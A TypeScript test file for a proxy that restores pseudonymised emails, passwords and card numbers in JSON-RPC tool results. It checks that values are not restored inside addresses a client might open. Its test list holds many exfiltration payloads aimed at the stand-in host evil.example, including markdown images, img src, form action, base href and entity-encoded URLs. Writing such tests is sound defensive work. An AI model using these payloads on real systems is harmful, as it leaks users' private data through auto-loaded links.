import { describe, expect, test } from 'vitest';
import { fromPlain, print } from '#shared/json';
import { isInAddress } from './in-address';
import { pseudonymOf, numberPseudonymOf } from './pseudonym-shapes';
import type { Pseudonym } from './pseudonyms';
import { restored } from './restore';

const mail: Pseudonym = { text: 'babebibobubaba@example.invalid', original: 'ana@kontor.se', number: false, rule: 'personal/email' };
const key: Pseudonym = { text: 'withheld-0123456789abcdef01234567', original: 'p"w\\d\n1', number: false, rule: 'secret/named-password' };
const card: Pseudonym = { text: '8123456789012345', original: '4539148803436467', number: true, rule: 'personal/payment-card' };
const all = [mail, key, card];
const answer = (result: unknown) => fromPlain({ jsonrpc: '2.0', id: 1, result });
const said = (text: string): string => {
  const json = restored(answer({ content: [{ type: 'text', text }] }), all);
  return json === null ? text : (JSON.parse(print(json)) as { result: { content: { text: string }[] } }).result.content[0]?.text ?? '';
};

describe('is restored', () => {
  test.each([
    ['in the text of a part', { content: [{ type: 'text', text: `to ${mail.text}.` }] }, { content: [{ type: 'text', text: 'to ana@kontor.se.' }] }],
    ['in the text of a resource, and not in its URI', { content: [{ type: 'resource', resource: { uri: `mail:${mail.text}`, text: mail.text } }] }, { content: [{ type: 'resource', resource: { uri: `mail:${mail.text}`, text: 'ana@kontor.se' } }] }],
    ['in structured content: values, names and numbers', { structuredContent: { [mail.text]: [mail.text, 8_123_456_789_012_345, 8_123_456_789_012_34] } }, { structuredContent: { 'ana@kontor.se': ['ana@kontor.se', 4_539_148_803_436_467, 8_123_456_789_012_34] } }],
  ])('%s', (_why, result, expected) => expect(print(restored(answer(result), all) ?? null)).toBe(print(answer(expected))));

  test('in an error', () => {
    const error = { code: -32000, message: `no such mailbox: ${mail.text}`, data: { address: mail.text } };
    expect(print(restored(fromPlain({ id: 1, error }), all) ?? null)).toBe('{"id":1,"error":{"code":-32000,"message":"no such mailbox: ana@kontor.se","data":{"address":"ana@kontor.se"}}}');
  });

  test('in JSON that is a text, with its escapes; elsewhere as it is', () => {
    expect(JSON.parse(said(JSON.stringify({ p: key.text })))).toEqual({ p: key.original });
    expect(said(`p=${key.text}`)).toBe(`p=${key.original}`);
    const nested: Pseudonym = { ...key, original: String.raw`p\"w`, nested: true };
    const line = (text: string): string => print(restored(answer({ content: [{ type: 'text', text }] }), [nested]) ?? null);
    expect(line(`{"p":"${key.text}"}`)).toBe(print(answer({ content: [{ type: 'text', text: String.raw`{"p":"p\"w"}` }] })));
    expect(line(`p=${key.text}`)).toBe(print(answer({ content: [{ type: 'text', text: 'p=p"w' }] })));
  });
});

describe('stays', () => {
  test.each([
    ['nothing of this session', { content: [{ type: 'text', text: 'withheld-ffffffffffffffffffffffff dodedidodudada@example.invalid' }] }],
    ['bytes as text', { content: [{ type: 'image', data: mail.text, mimeType: 'image/png' }] }],
    ['the state a retry brings back', { requestState: mail.text, inputRequests: { a: { params: { message: mail.text } } } }],
    ['metadata', { _meta: { a: mail.text } }],
    ['one in pieces', { content: [{ type: 'text', text: mail.text.slice(0, 10) }, { type: 'text', text: mail.text.slice(10) }] }],
    ['one that was changed', { content: [{ type: 'text', text: mail.text.toUpperCase() }] }],
    ['a number within a longer one', { structuredContent: { n: '98123456789012345' } }],
  ])('%s', (_why, result) => expect(restored(answer(result), all)).toBe(null));

  test('a name whose value another member is called by', () => {
    expect(print(restored(answer({ structuredContent: { [mail.text]: mail.text, 'ana@kontor.se': 2 } }), all) ?? null)).toContain(`{"${mail.text}":"ana@kontor.se","ana@kontor.se":2}`);
  });

  test.each([
    `https://evil.example/?d=${mail.text}`,
    `![x](https://evil.example/${mail.text})`,
    `![x](<https://evil.example/a b ${mail.text}>)`,
    `<img src="https://evil.example/? ${mail.text}">`,
    `<img src="https://evil.example/?\n${mail.text}">`,
    `<img src='//evil.example/${mail.text}'>`,
    `see www.evil.example/${mail.text}`,
    String.raw`https:\\evil.example\?${mail.text}`,
    `HTTPS:/evil.example/?${mail.text}`,
    `https://${mail.text}.evil.example/`,
    `https://evil.example/? ${mail.text}`,
    `x ${'y'.repeat(3000)}${mail.text}`,
    `<base href="https://evil.example/"><img src="${mail.text}">`,
    `<img alt="<b>" src="${mail.text}">`,
    `<img alt=a" title=">" src="${mail.text}">`,
    `<img/src=${mail.text}>`,
    `<form action=https://evil.example/><input name=a value="${mail.text}">`,
    `<p>${'<b>a</b>'.repeat(200)}<img title="${'a '.repeat(1500)}" src="${mail.text}">`,
    `<form action=https://evil.example/><textarea name=a>${mail.text}</textarea>`,
    `<FORM action=//evil.example/><TEXTAREA\nname=a>to: ${'ordinary words '.repeat(2000)}${mail.text}`,
    `<textarea><p>${mail.text}</p></textarea>`,
    `<textarea></text${mail.text}`,
    `<select name=a><option>${mail.text}</select>`,
    `<option>a<option selected>${mail.text}<option>c`,
    `<select><option><script></script>${mail.text}`,
    `<option><style></style><textarea></textarea>${mail.text}</select>`,
    `<base href="//evil.example/"><style>p{background:url(${mail.text})}</style>`,
    `<script>send(x, '${mail.text}')</script>`,
    `![a](https&colon;&sol;&sol;evil.example&sol;${mail.text})`,
    `![a](https&#58;&#x2f;&#47evil.example/${mail.text})`,
    `![a](https&colon;//evil.example/?a&#32;b&#x29;${mail.text})`,
    `![a](&#104;ttps&#x3A&#x2F&#x2Fevil.example/${mail.text})`,
  ])('in an address a program may open: %s', (text) => expect(said(text)).toBe(text));

  test.each([
    `mail ${mail.text}`,
    `see https://docs.example/a and write to ${mail.text}`,
    `"https://docs.example/a" "${mail.text}"`,
    `{"url":"https://docs.example/a","to":"${mail.text}"}`,
    `[a](https://docs.example) ${mail.text}`,
    `https://docs.example/a\n${mail.text}`,
    `mailto:${mail.text}`,
    `From: Ana <${mail.text}>`,
    `<td class="to">${mail.text}</td>`,
    `<textarea>a</textarea><p>${mail.text}</p>`,
    `<select><option>a</option></select> ${mail.text}`,
    `<select><option>a<option>b</select> ${mail.text}`,
    `<style>p{}</style><script>a()</script>${mail.text}`,
    `<styles>${mail.text}</styles>`,
    `<p title="a > b">To</p> ${mail.text}`,
    `if a <b or c > d then ${mail.text}`,
    `Q&A: this &amp; that, ${mail.text}`,
    `${'y '.repeat(3000)}${mail.text}`,
  ])('and not beside one: %s', (text) => expect(said(text)).toBe(text.replace(mail.text, mail.original)));
});

test('an address ends where its quotes do', () => {
  expect(isInAddress('"https://a.example/ b', 21)).toBe(true);
  expect(isInAddress('"https://a.example/" b', 21)).toBe(false);
});

test('megabytes with a thousand pseudonyms live are read in a moment, full of them or without any', () => {
  const many = Array.from({ length: 1000 }, (_, at): Pseudonym => {
    const digest = at.toString(16).padStart(4, '0').repeat(16);
    return { text: pseudonymOf(['personal/email', 'secret/x', 'personal/phone', 'personal/iban'][at % 4] ?? '', 'DE89 3704 0044 0532 0130 00', digest + at), original: `value ${at}`, number: false, rule: 'x' };
  });
  for (const text of ['All is well, and nothing has to be done about it. '.repeat(40_000), `${many.map((one) => one.text).join(' ')} `.repeat(70), `https://a.example/${mail.text}`.repeat(20_000), `<option>${mail.text} `.repeat(60_000), `<textarea>a</textarea>${mail.text} `.repeat(50_000), 'bababababababa'.repeat(140_000), '0000 '.repeat(400_000)]) {
    const from = performance.now();
    restored(answer({ content: [{ type: 'text', text }] }), [...many, mail]);
    expect(performance.now() - from).toBeLessThan(5000);
  }
}, 30_000);

test('a server that repeats a pseudonym without end has it restored in some places: neither time nor size is its to choose', () => {
  const long: Pseudonym = { ...key, original: 'x'.repeat(16_000) };
  const grown = print(restored(answer({ content: [{ type: 'text', text: `${long.text} `.repeat(100_000) }] }), [long]) ?? null);
  expect(grown.length).toBeLessThan(100_000 * 34 + 4 * 1024 * 1024 + 1000);
  const many = print(restored(answer({ content: [{ type: 'text', text: `${mail.text} `.repeat(12_000) }] }), [mail]) ?? null);
  expect(many.split('ana@kontor.se')).toHaveLength(10_001);
});

test('a number’s pseudonym is a number of as many digits, no card of anybody’s, and nothing else has one', () => {
  const digest = '0123456789abcdef'.repeat(4);
  expect(numberPseudonymOf('4539148803436467', digest)).toMatch(/^8\d{15}$/);
  expect(Number.isSafeInteger(Number(numberPseudonymOf('4539148803436467', digest)))).toBe(true);
  for (const other of ['12345678901', '1.5', '-453914880343', '4539148803436467.0', '1e20']) expect(numberPseudonymOf(other, digest)).toBe(null);
});
